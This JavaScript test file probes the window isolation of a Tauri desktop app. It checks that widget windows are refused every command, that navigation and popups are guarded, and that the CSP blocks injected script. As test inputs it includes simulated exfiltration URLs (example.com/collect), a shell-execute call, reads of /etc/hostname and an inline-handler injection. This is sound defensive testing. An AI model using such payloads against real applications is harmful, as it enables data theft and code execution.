// The app's isolation, probed from inside the real app (docs/SECURITY.md):
// - every window that shows widget (third-party) content can call no command at all: every app
//   command (read from src-tauri/command_names.rs) and the core and plugin commands are refused;
// - the main window is refused the plugin commands its capability does not grant;
// - a widget's script cannot reach the system browser (scripted window.open or navigation);
// - the main window cannot be navigated away from the app, and its CSP stops injected script.
// Demo mode: the embedded simulator serves the API and the widget scripts.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { launchApp, makeAppDirs, recordingSystemBrowser, removeAppDirs, repoRoot, screenshot, collectPageSource, scanSimulatorRequests } from "../lib/harness.mjs";
import { waitFor } from "../lib/ui.mjs";

/** Every command the app registers, as the build script and the ACL manifest see them. */
const APP_COMMANDS = [
  ...readFileSync(join(repoRoot, "src-tauri", "command_names.rs"), "utf8")
    .split("APP_COMMANDS")[1]
    .matchAll(/"([a-z_]+)"/g),
].map((m) => m[1]);

/** Core and plugin commands, with arguments that would make each one act if it were allowed. */
const PLUGIN_COMMANDS = [
  ["plugin:store|load", { path: "settings.json" }],
  ["plugin:store|get_store", { path: "settings.json" }],
  ["plugin:store|set", { rid: 1, key: "k", value: 1 }],
  ["plugin:dialog|open", { options: {} }],
  ["plugin:dialog|save", { options: {} }],
  ["plugin:dialog|message", { message: "x" }],
  ["plugin:opener|open_url", { url: "https://example.com/from-a-probe" }],
  ["plugin:opener|open_path", { path: "/etc/hostname" }],
  ["plugin:opener|reveal_item_in_dir", { paths: ["/etc/hostname"] }],
  ["plugin:notification|notify", { options: { title: "probe", body: "probe" } }],
  ["plugin:notification|request_permission", {}],
  ["plugin:notification|is_permission_granted", {}],
  ["plugin:event|emit", { event: "orders-changed", payload: {} }],
  ["plugin:event|emit_to", { target: { kind: "Any" }, event: "sync-status", payload: {} }],
  ["plugin:event|listen", { event: "widget-activity", target: { kind: "Any" }, handler: 0 }],
  ["plugin:window|close", { label: "main" }],
  ["plugin:window|destroy", { label: "main" }],
  ["plugin:window|set_title", { label: "main", value: "probe" }],
  ["plugin:window|hide", { label: "main" }],
  ["plugin:webview|create_webview_window", { options: { label: "probe", url: "https://example.com" } }],
  ["plugin:webview|set_webview_zoom", { label: "main", value: 3 }],
  ["plugin:app|version", {}],
  ["plugin:app|set_app_theme", { theme: "dark" }],
  ["plugin:path|resolve_directory", { directory: 1 }],
  ["plugin:menu|new", { kind: "Menu", options: {} }],
  ["plugin:tray|new", { options: {} }],
  ["plugin:log|log", { level: 3, message: "probe" }],
  ["plugin:updater|check", {}],
  ["plugin:window-state|save_window_state", { flags: 63 }],
  ["plugin:fs|read_text_file", { path: "/etc/hostname" }],
  ["plugin:shell|execute", { program: "sh", args: ["-c", "true"] }],
];

/** Granted to the main window by capabilities/main.json (the positive control of the probe). */
const MAIN_GRANTED = ["plugin:event|listen", "plugin:app|version"];
/** Plugin commands the main window must not have: nothing in its UI needs them. */
const MAIN_REFUSED = PLUGIN_COMMANDS.filter(
  ([cmd]) => !MAIN_GRANTED.includes(cmd) && !["plugin:window|set_title"].includes(cmd),
);

let app;
let browser;
let mainHandle;
let accountId;
let simOrigin;
/** URLs the app asked the system browser to open since the app started. */
let openedSinceStart = () => [];

/** Calls a command from the current window; a refusal comes back as data. */
async function invoke(command, args = {}) {
  try {
    return await browser.execute(
      async (cmd, payload) => {
        try {
          return { ok: true, data: await window.__TAURI_INTERNALS__.invoke(cmd, payload) };
        } catch (error) {
          return { ok: false, error: typeof error === "string" ? error : JSON.stringify(error) };
        }
      },
      command,
      args,
    );
  } catch (error) {
    // In a widget window WebKit reports the rejection as a script error.
    return { ok: false, error: String(error?.message ?? error) };
  }
}

/** Invokes every command in `list` from the current window; returns those that were not refused. */
async function probe(list) {
  const holes = [];
  for (const [command, args] of list) {
    const result = await invoke(command, args);
    // Refused by Tauri's ACL: "<command> not allowed on window …" / "… not allowed. Permissions
    // associated with this command: …" (debug builds), "Command … not allowed by ACL" (release).
    // Any other failure (an argument error, say) means the call got past the ACL: a hole.
    const refused = !result.ok && /not allowed/i.test(result.error);
    if (!refused) holes.push(`${command} → ${JSON.stringify(result).slice(0, 200)}`);
  }
  return holes;
}

/** URLs the app asked the system browser to open (the PATH-stubbed xdg-open records them). */
async function switchToNewWindow(known) {
  const handle = await waitFor(browser, "a new window", async () => {
    const handles = await browser.getWindowHandles();
    return handles.find((h) => !known.includes(h));
  });
  await browser.switchToWindow(handle);
  return handle;
}

async function closeOtherWindows() {
  await browser.switchToWindow(mainHandle);
  for (const handle of await browser.getWindowHandles()) {
    if (handle === mainHandle) continue;
    await browser.switchToWindow(handle);
    await browser.closeWindow();
  }
  await browser.switchToWindow(mainHandle);
  await waitFor(browser, "only the main window", async () => (await browser.getWindowHandles()).length === 1);
}

before(async () => {
  // The system browser is a stub that records what it was asked to open: the navigation guard
  // hands https links to it, and nothing must reach it from a widget.
  const dirs = makeAppDirs();
  const systemBrowser = recordingSystemBrowser(dirs);
  openedSinceStart = systemBrowser.opened;
  app = await launchApp({ args: ["--demo"], dirs, env: { PATH: systemBrowser.path } });
  browser = app.browser;
  await browser.setTimeout({ script: 120000 });
  mainHandle = await browser.getWindowHandle();
  const overview = await waitFor(browser, "the demo account", async () => {
    const r = await invoke("list_accounts");
    return r.ok && r.data.accounts.some((a) => a.environment === "demo") ? r.data : null;
  });
  accountId = overview.accounts.find((a) => a.environment === "demo").id;
  const inviteUrl = await waitFor(browser, "the demo orders", async () => {
    const r = await invoke("list_orders", { accountId, refresh: false });
    return r.ok ? r.data.orders.find((o) => o.inviteUrl)?.inviteUrl : null;
  });
  simOrigin = new URL(inviteUrl).origin;
  // Not a rate-limit test: lift the demo simulator's limit so opening widgets never waits.
  const res = await fetch(`${simOrigin}/_sim/ratelimit?limit=100000`, { method: "POST" });
  assert.equal(res.status, 200);
  assert.ok((await invoke("list_invoices", { accountId })).ok);
});

after(async () => {
  // Every header the demo's embedded simulator received goes to the leak scan (99-leak-scan).
  if (simOrigin) await scanSimulatorRequests(simOrigin, "demo simulator");
  await app?.stop();
  if (app) removeAppDirs(app.dirs);
});

test("the probe sees the main window's own commands succeed (positive control)", async () => {
  const info = await invoke("app_info");
  assert.ok(info.ok, info.error);
  const version = await invoke("plugin:app|version");
  assert.ok(version.ok, version.error);
  assert.ok(APP_COMMANDS.length >= 30 && APP_COMMANDS.includes("place_order"), APP_COMMANDS.join());
});

test("the main window is refused every plugin command its capability does not grant", async () => {
  const holes = await probe(MAIN_REFUSED);
  assert.deepEqual(holes, [], `the main window could call:\n${holes.join("\n")}`);
  // A refusal names the ACL, so this is the capability at work and not a missing plugin.
  const store = await invoke("plugin:store|load", { path: "settings.json" });
  assert.match(store.error, /not allowed/i);
  assert.deepEqual(openedSinceStart(), [], "nothing was opened in the system browser");
  assert.equal((await browser.getWindowHandles()).length, 1, "no window was created");
});

const widgets = [
  {
    name: "report viewer",
    async open() {
      const key = await waitFor(browser, "a completed order", async () => {
        const r = await invoke("list_orders", { accountId, refresh: false });
        return r.ok ? r.data.orders.find((o) => o.state === "complete")?.reportKey : null;
      });
      assert.ok((await invoke("open_report", { accountId, reportKey: key })).ok);
      return "cc-report";
    },
  },
  {
    name: "applicant form",
    async open() {
      const key = await waitFor(browser, "an order waiting for its applicant", async () => {
        const r = await invoke("list_orders", { accountId, refresh: false });
        return r.ok ? r.data.orders.find((o) => o.state === "awaitingApplicant")?.reportKey : null;
      });
      assert.ok((await invoke("open_applicant_form", { accountId, reportKey: key })).ok);
      return "cc-applicant-form";
    },
  },
  {
    name: "account registration",
    async open() {
      assert.ok((await invoke("create_customer_account")).ok);
      return "cc-registration";
    },
  },
];

for (const widget of widgets) {
  test(`the ${widget.name} window can call no app, core or plugin command`, async () => {
    await browser.switchToWindow(mainHandle);
    const testId = await widget.open();
    const handle = await switchToNewWindow([mainHandle]);
    // The widget has loaded: its own script ran in this window.
    await browser.$(`[data-testid="${testId}"]`).waitForExist({ timeout: 20000 });
    assert.equal(await browser.execute(() => typeof window.__TAURI_INTERNALS__?.invoke), "function");

    const appHoles = await probe(APP_COMMANDS.map((c) => [c, { accountId }]));
    assert.deepEqual(appHoles, [], `the ${widget.name} window could call:\n${appHoles.join("\n")}`);
    const pluginHoles = await probe(PLUGIN_COMMANDS);
    assert.deepEqual(pluginHoles, [], `the ${widget.name} window could call:\n${pluginHoles.join("\n")}`);

    // Nothing the refused calls would have done happened.
    assert.deepEqual(openedSinceStart(), [], "nothing reached the system browser");
    const handles = await browser.getWindowHandles();
    assert.ok(handles.includes(mainHandle) && handles.includes(handle), "no window was closed");
    assert.equal(handles.length, 2, "no window was created");
    await collectPageSource(browser, `${widget.name} window`);
    await closeOtherWindows();
  });
}

test("a widget window cannot open a window of its own", async () => {
  await browser.switchToWindow(mainHandle);
  await widgets[0].open();
  await switchToNewWindow([mainHandle]);
  await browser.$('[data-testid="cc-report"]').waitForExist({ timeout: 20000 });
  const opened = await browser.execute(() => {
    const w = window.open("http://127.0.0.1:9/popup", "_blank");
    return w === null ? "null" : typeof w;
  });
  // Give a window that was allowed time to appear, by waiting for a full round trip of the app.
  await browser.switchToWindow(mainHandle);
  assert.ok((await invoke("app_info")).ok);
  assert.equal((await browser.getWindowHandles()).length, 2, `window.open gave ${opened} and made a window`);
  await closeOtherWindows();
});

test("a widget's script cannot reach the system browser: scripted window.open and navigation are refused", async () => {
  await browser.switchToWindow(mainHandle);
  await widgets[0].open();
  await switchToNewWindow([mainHandle]);
  await browser.$('[data-testid="cc-report"]').waitForExist({ timeout: 20000 });
  const hostPage = await browser.getUrl();
  // What a compromised widget script would do to carry report data out.
  await browser.execute(() => {
    window.open("https://example.com/collect?from=window-open", "_blank");
    window.open("https://example.org/collect?from=window-open-noopener", "_blank", "noopener");
  });
  await browser.execute(() => {
    window.location.assign("https://example.net/collect?from=navigation");
  });
  // Let the app act on both (a full round trip from the main window), then look.
  await browser.switchToWindow(mainHandle);
  assert.ok((await invoke("app_info")).ok);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  assert.deepEqual(openedSinceStart(), [], "nothing reached the system browser");
  assert.equal((await browser.getWindowHandles()).length, 2, "no window was created");
  const [widgetHandle] = (await browser.getWindowHandles()).filter((h) => h !== mainHandle);
  await browser.switchToWindow(widgetHandle);
  assert.equal(new URL(await browser.getUrl()).origin, new URL(hostPage).origin, "the widget window stayed on its host page");
  await closeOtherWindows();
});

test("the main window cannot be navigated to another origin", async () => {
  await browser.switchToWindow(mainHandle);
  const appUrl = await browser.getUrl();
  for (const target of ["https://example.com/", "http://example.com/", "file:///etc/hostname"]) {
    await browser.execute((url) => {
      window.location = url;
    }, target);
    // Still the app: the page answers, from the same origin, with its own content.
    await waitFor(browser, "the app to answer after the navigation attempt", async () => {
      const r = await invoke("app_info");
      return r.ok;
    });
    assert.equal(new URL(await browser.getUrl()).origin, new URL(appUrl).origin, `navigated to ${target}`);
    assert.match(await browser.getTitle(), /ClearChecks/, "the app is still shown");
  }
  // The guard handed the https address to the system browser and nothing else.
  await waitFor(browser, "the https link in the system browser", async () => openedSinceStart().length > 0);
  assert.deepEqual(openedSinceStart(), ["https://example.com/"]);
  await screenshot(browser, "security-after-navigation-attempts");
});

test("the main window's CSP stops injected inline script, inline handlers and eval", async () => {
  await browser.switchToWindow(mainHandle);
  const outcome = await browser.execute(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    window.__injectedScript = undefined;
    window.__injectedHandler = undefined;
    window.__injectedMarkup = undefined;
    // 1. A script element with text (runs without a CSP).
    const s = document.createElement("script");
    s.textContent = "window.__injectedScript = true;";
    document.body.appendChild(s);
    // 2. An inline event handler in injected markup (runs without a CSP).
    document.body.insertAdjacentHTML("beforeend", '<img id="cc-probe" src="data:," onerror="window.__injectedHandler = true">');
    // 3. A script tag in injected markup (never runs from innerHTML; here for completeness).
    document.body.insertAdjacentHTML("beforeend", "<script>window.__injectedMarkup = true;</script>");
    let evalResult;
    try {
      evalResult = eval("1 + 1");
    } catch (error) {
      evalResult = error.name;
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    document.getElementById("cc-probe")?.remove();
    return {
      script: window.__injectedScript ?? null,
      handler: window.__injectedHandler ?? null,
      markup: window.__injectedMarkup ?? null,
      evalResult,
      violations,
    };
  });
  assert.equal(outcome.script, null, "the injected script element ran");
  assert.equal(outcome.handler, null, "the injected inline handler ran");
  assert.equal(outcome.markup, null, "the injected script markup ran");
  assert.equal(outcome.evalResult, "EvalError", "eval is refused");
  // The CSP itself refused them (not some other accident): the browser reported the violations.
  assert.ok(outcome.violations.some((d) => d.startsWith("script-src")), JSON.stringify(outcome.violations));
  // The app keeps working after the attempts.
  assert.ok((await invoke("app_info")).ok);
});

test("bad pastes get clear answers from split_emails and check_emails, and the app stays responsive", async () => {
  await browser.switchToWindow(mainHandle);
  // 20,000 addresses: split and checked in one go each, in well under the UI's patience.
  const paste = Array.from({ length: 20000 }, (_, i) => `Applicant ${i} <applicant.${i}@example.com>`).join("\n");
  let started = Date.now();
  const split = await invoke("split_emails", { text: paste });
  assert.ok(split.ok, split.error);
  assert.equal(split.data.length, 20000);
  assert.equal(split.data[19999], "applicant.19999@example.com");
  const checked = await invoke("check_emails", { accountId, emails: split.data });
  assert.ok(checked.ok, checked.error);
  assert.equal(checked.data.filter((c) => c.problem === null).length, 20000);
  assert.ok(Date.now() - started < 15000, `20,000 emails took ${Date.now() - started} ms`);

  // Unicode, control characters and a 10 KB local part: each entry says what is wrong.
  const odd = [
    "zoë@example.com", // accented local part: refused by rule
    "ada@bücher.de", // Unicode domain: accepted
    "bell\u0007@example.com",
    "zero\u200bwidth@example.com",
    `${"a".repeat(10240)}@example.com`,
  ];
  const oddChecks = await invoke("check_emails", { accountId, emails: odd });
  assert.ok(oddChecks.ok, oddChecks.error);
  assert.deepEqual(
    oddChecks.data.map((c) => c.problem?.kind ?? null),
    ["invalidSyntax", null, "controlCharacters", "controlCharacters", "tooLong"],
  );

  // A paste over 4 MB is refused with a message, not parsed.
  started = Date.now();
  const huge = await invoke("split_emails", { text: "x".repeat(4 * 1024 * 1024 + 1) });
  assert.equal(huge.ok, false);
  assert.match(huge.error, /larger than 4 MB/);
  assert.ok((await invoke("app_info")).ok, "the app still answers");
  assert.ok(Date.now() - started < 15000);
});
